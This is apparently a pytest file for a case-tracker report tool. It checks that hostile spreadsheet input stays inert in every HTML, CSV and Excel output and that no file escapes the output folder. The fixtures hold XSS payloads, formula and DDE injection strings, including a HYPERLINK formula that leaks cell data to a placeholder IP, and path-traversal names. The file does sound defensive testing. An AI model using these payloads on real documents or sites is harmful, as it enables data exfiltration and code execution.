"""Hostile text typed into a case system stays inert in every output of a real run, and stays inside --out.

The report modules have their own unit tests; this runs the whole command on one hostile extract and looks at
every file it writes: no live formula in any workbook or CSV, no live markup in any page, no file outside --out.
"""

from __future__ import annotations

import csv
import os
from pathlib import Path

import openpyxl
from click.testing import CliRunner

from checker.cli import main
from checker.reports.html import school_file_name
from checker.reports.safety import FORMULA_TRIGGERS

HEADERS = ["Child ID", "Forename", "Surname", "Team", "Caseworker", "Request Ref", "Date Request Received",
           "Decision to Assess Date", "Decision", "School URN"]
SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?leak="&A1,"click")'
ROWS = [
    ["C1", SCRIPT, FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)", "R1", "06/01/2025", "", "Awaiting decision",
     "100001"],
    ["C2", "<img src=x onerror=alert(1)>", "-2+3", "=1+1", "\t=1", "../../R2", "06/01/2025", "20/03/2025",
     "Agreed to assess", "../../../escape"],
    ["C3", "Ada", "O'Brien \"&\" <b>", "North", "J. Patel", "R3", "06/01/2025", "14/02/2025", "Refused", "100002"],
]


def _run(tmp_path: Path, *extra):
    src = tmp_path / "in" / "tracker.csv"
    src.parent.mkdir()
    with open(src, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([HEADERS] + ROWS)
    out = tmp_path / "work" / "out"
    result = CliRunner().invoke(main, ["check", str(src), "--as-at", "2026-10-31", "--out", str(out),
                                       "--profile", "la-tracker-a", *extra])
    return result, out


def _all_files(root: Path) -> set[Path]:
    return {Path(d) / f for d, _, files in os.walk(root) for f in files}


def test_every_output_of_a_hostile_run_is_inert_and_inside_out(tmp_path):
    result, out = _run(tmp_path)
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output
    written = _all_files(tmp_path)
    outside = {p for p in written if out not in p.parents and p.parent != tmp_path / "in"}
    assert not outside, outside
    pages = [p for p in written if p.suffix == ".html"]
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text and "<img src=x" not in text and "<b>" not in text, page.name
    with open(out / "findings.csv", encoding="utf-8", newline="") as fh:
        teams = {row["team"] for row in csv.DictReader(fh)}
    assert "'+cmd|' /C calc'!A0" in teams, teams  # kept, readable, and inert
    for book_path in [p for p in written if p.suffix == ".xlsx"]:
        book = openpyxl.load_workbook(book_path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{book_path.name} {ws.title}!{c.coordinate} is a formula: {c.value}"
    for table in [p for p in written if p.suffix == ".csv" and out in p.parents]:
        with open(table, encoding="utf-8", newline="") as fh:
            for line, row in enumerate(csv.reader(fh), 1):
                live = [c for c in row if c.startswith(FORMULA_TRIGGERS)]
                assert not live, f"{table.name} line {line}: {live}"
    with open(out / "findings.jsonl", encoding="utf-8") as fh:  # the machine copy keeps the exact text
        assert any("R1" in line for line in fh)


def test_existing_reports_are_kept_without_force(tmp_path):
    first, out = _run(tmp_path)
    before = {p: p.read_bytes() for p in _all_files(out)}
    again = CliRunner().invoke(main, ["check", str(tmp_path / "in" / "tracker.csv"), "--as-at", "2026-10-31",
                                      "--out", str(out), "--profile", "la-tracker-a"])
    assert again.exit_code == 2 and "use --force to overwrite it" in again.output
    assert {p: p.read_bytes() for p in _all_files(out)} == before


def test_school_file_names_cannot_leave_the_folder():
    for urn, name in [("../../etc", "../../passwd"), ("/abs", "C:\\Windows\\x"), ("", ""), ("1\x00", "..")]:
        file = school_file_name(urn, name)
        assert "/" not in file and "\\" not in file and ".." not in file and "\x00" not in file, file
        assert file.startswith("governor-") and file.endswith(".html")


def test_reports_and_folders_are_owner_only(tmp_path):
    _, out = _run(tmp_path)
    for p in [out, *_all_files(out), *[d for d in out.rglob("*") if d.is_dir()]]:
        assert p.stat().st_mode & 0o077 == 0, f"{p.name} is readable by others: {oct(p.stat().st_mode)}"
